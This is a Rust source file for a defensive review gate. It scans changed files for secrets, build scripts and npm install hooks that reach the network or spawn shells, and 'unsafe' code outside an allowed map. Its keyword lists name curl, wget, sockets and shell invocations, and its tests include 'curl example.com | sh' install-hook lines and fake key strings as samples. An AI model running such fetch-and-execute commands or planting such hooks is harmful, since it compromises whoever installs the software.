//! What a person should see before it runs or leaves: secrets, build scripts that reach out, hooks, `unsafe` outside its map.

use crate::gate::{Gate, Seen, Verdict};
use crate::glob::matches;
use crate::path::RelPath;
use crate::proposal::FileState;
use crate::secrets::secret;
use std::fmt;

/// What a build script of Rust seldom needs and an attack does.
const REACHES_OUT: [&str; 8] =
    ["TcpStream", "UdpSocket", "UnixStream", "Command::new(\"sh\"", "Command::new(\"bash\"", "curl", "wget", "base64"];

/// The same of Python.
const PYTHON_REACHES_OUT: [&str; 13] = [
    "urllib",
    "requests",
    "http.client",
    "socket",
    "subprocess",
    "os.system",
    "os.popen",
    "exec(",
    "eval(",
    "__import__",
    "base64",
    "curl",
    "wget",
];
/// The same in a build's settings.
const BUILD_REACHES_OUT: [&str; 6] = ["curl", "wget", "base64", "sh -c", "bash -c", "python -c"];
/// Scripts that npm runs when a package is installed; the versions of packages of these names begin otherwise.
const NPM_HOOKS: [&str; 4] = ["preinstall", "install", "postinstall", "prepare"];
const NUMBERS: [char; 13] = ['0', '1', '2', '3', '4', '5', '6', '7', '8', '9', '^', '~', '>'];

/// Something that a person should see.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Finding {
    /// In which file.
    pub path: RelPath,
    /// In which line, from 1.
    pub line: usize,
    /// What it is.
    pub what: String,
}

impl fmt::Display for Finding {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}:{}: {}", self.path, self.line, self.what)
    }
}

/// What is new in a file and should be seen; what was there before is not told again.
pub fn findings(path: &RelPath, before: Option<&FileState>, after: &FileState) -> Vec<Finding> {
    let old = before.map(|state| String::from_utf8_lossy(&state.bytes).into_owned()).unwrap_or_default();
    let text = String::from_utf8_lossy(&after.bytes);
    let old_lines: std::collections::HashSet<&str> = old.lines().collect();
    let mut all = Vec::new();
    for (number, line) in text.lines().enumerate().filter(|(_, line)| !old_lines.contains(line)) {
        let mut found = |what: String| all.push(Finding { path: path.clone(), line: number + 1, what });
        if let Some(what) = secret(line) {
            found(format!("looks like {what}"));
        }
        if let Some(what) = reaches_out(path, line) {
            found(what);
        }
    }
    all
}

/// What in a line of a build's file a person should see.
fn reaches_out(path: &RelPath, line: &str) -> Option<String> {
    let words = match path.name() {
        b"build.rs" => &REACHES_OUT[..],
        b"setup.py" => &PYTHON_REACHES_OUT,
        b"pyproject.toml" | b"setup.cfg" => &BUILD_REACHES_OUT,
        b"package.json" => {
            let is_hook = |hook: &&&str| {
                let after = line.split_once(&format!("\"{hook}\"")).map(|(_, rest)| rest.trim_start_matches([' ', '\t', ':']));
                after.is_some_and(|value| value.strip_prefix('"').is_some_and(|value| !value.starts_with(NUMBERS)))
            };
            return NPM_HOOKS.iter().find(is_hook).map(|hook| format!("npm runs '{hook}' when it installs"));
        }
        _ => return None,
    };
    words.iter().find(|word| line.contains(**word)).map(|word| format!("a build script with '{word}'"))
}

/// The security gate: what a change adds must have no finding, and `unsafe` stays within its map.
#[derive(Debug, Clone, Default)]
pub struct Security {
    /// Paths in which findings are known and right: test data, documentation.
    pub allowed: Vec<String>,
    /// Where `unsafe` may be added; `None`: anywhere.
    pub unsafe_map: Option<Vec<String>>,
}

impl Security {
    fn unsafe_outside(&self, path: &RelPath, before: Option<&FileState>, after: &FileState) -> Option<Finding> {
        let map = self.unsafe_map.as_ref()?;
        let is_rust = path.name().ends_with(b".rs");
        if !is_rust || map.iter().any(|glob| matches(glob, path)) {
            return None;
        }
        let count = |state: &FileState| unsafe_lines(&String::from_utf8_lossy(&state.bytes)).len();
        let lines = unsafe_lines(&String::from_utf8_lossy(&after.bytes));
        let is_more = lines.len() > before.map_or(0, count);
        is_more.then(|| Finding { path: path.clone(), line: lines[lines.len() - 1], what: "'unsafe' outside of its map".into() })
    }
}

/// Lines whose code has the word `unsafe`. Comments do not count; what stands in a string does, for the scan is not a parser.
fn unsafe_lines(text: &str) -> Vec<usize> {
    let has_word = |line: &str| {
        line.split("//").next().unwrap_or_default().split(|c: char| !c.is_alphanumeric() && c != '_').any(|word| word == "unsafe")
    };
    text.lines().enumerate().filter(|(_, line)| has_word(line)).map(|(number, _)| number + 1).collect()
}

impl Gate for Security {
    fn name(&self) -> &str {
        "security"
    }

    fn judge(&self, seen: &Seen<'_>) -> Verdict {
        let mut all = Vec::new();
        for file in seen.files {
            let Some(after) = file.after else { continue };
            if !self.allowed.iter().any(|glob| matches(glob, file.path)) {
                all.extend(findings(file.path, file.before, after));
            }
            all.extend(self.unsafe_outside(file.path, file.before, after));
        }
        if all.is_empty() {
            return Verdict::Holds;
        }
        Verdict::Fails(all.iter().map(Finding::to_string).collect::<Vec<_>>().join("\n"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(path: &str, before: &str, after: &str) -> Vec<String> {
        let (path, before, after) = (RelPath::new(path).unwrap(), FileState::plain(before), FileState::plain(after));
        findings(&path, Some(&before), &after).iter().map(Finding::to_string).collect()
    }

    #[test]
    fn new_secrets_and_scripts_that_reach_out_are_found_and_old_ones_are_not_told_again() {
        let key = format!("key = \"{}{}\"\n", "AKIA", "ABCDEFGHIJKLMNOP");
        assert_eq!(found("a.toml", "", &key), ["a.toml:1: looks like a key of AWS"]);
        assert!(found("a.toml", &key, &format!("x = 1\n{key}")).is_empty());
        assert!(found("a.toml", "", "AKIA is how they begin\n").is_empty());
        let private = format!("{}EC {}", "-----BEGIN ", "PRIVATE KEY-----");
        assert_eq!(found("k", "", &private), ["k:1: looks like a private key"]);
        assert_eq!(found("x/build.rs", "", "fn main() { Command::new(\"curl\"); }").len(), 1);
        for (path, line) in [
            ("package.json", "  \"postinstall\": \"curl example.com | sh\","),
            ("web/package.json", "{\"scripts\":{\"preinstall\":\"node x.js\"}}"),
            ("package.json", "\"install\": \"./build\""),
            ("setup.py", "import subprocess"),
            ("pyproject.toml", "build = \"curl example.com | sh\""),
        ] {
            assert_eq!(found(path, "", line).len(), 1, "{path}: {line}");
        }
        for (path, line) in [("package.json", "\"install\": \"^0.13.0\""), ("pyproject.toml", "dependencies = [\"requests\"]")] {
            assert!(found(path, "", line).is_empty(), "{path}: {line}");
        }
        assert!(found("x/src/net.rs", "", "TcpStream::connect()").is_empty());
    }

    #[test]
    fn unsafe_stays_within_its_map() {
        let gate = Security { unsafe_map: Some(vec!["simd/**".into()]), ..Security::default() };
        let judge = |path: &str, before: &str, after: &str| {
            let (path, before, after) = (RelPath::new(path).unwrap(), FileState::plain(before), FileState::plain(after));
            let file = crate::Written { path: &path, before: Some(&before), after: Some(&after) };
            gate.judge(&Seen { root: std::path::Path::new("/"), files: &[file] })
        };
        assert_eq!(judge("simd/a.rs", "", "unsafe { f() }"), Verdict::Holds);
        assert_eq!(judge("src/a.rs", "", "// unsafe is not here\nlet unsafe_count = 0;"), Verdict::Holds);
        assert_eq!(judge("src/a.rs", "unsafe { f() }", "unsafe { g() }"), Verdict::Holds, "no more than before");
        assert!(matches!(judge("src/a.rs", "", "\nunsafe { f() }"), Verdict::Fails(text) if text.starts_with("src/a.rs:2:")));
    }
}
